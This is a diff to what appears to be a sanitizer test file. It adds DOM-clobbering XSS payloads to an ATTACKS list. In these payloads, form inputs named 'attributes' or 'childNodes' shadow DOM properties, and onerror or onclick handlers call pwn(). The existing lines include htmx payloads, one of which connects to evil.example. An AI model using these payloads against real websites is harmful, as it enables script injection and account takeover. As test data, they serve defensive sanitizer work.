@@ -92,4 +92,8 @@ ATTACKS = [
     "<div hx-ext='sse' sse-connect='https://evil.example/' sse-swap='x'>x</div>",
     "<div hx-boost='true'><a href='/wp-admin/'>x</a></div>",
     "<div hx-swap-oob='true' id='wpadminbar'>x</div>",
+    # A form answers with its fields where a script asks for its children or attributes.
+    "<form onclick='pwn()'><input name='attributes'></form>",
+    "<form><input name='childNodes'><img src=x onerror='pwn()'></form>",
+    "<form id='f'><img src=x onerror='pwn()'></form><select id='childNodes' form='f'></select>",
 ]
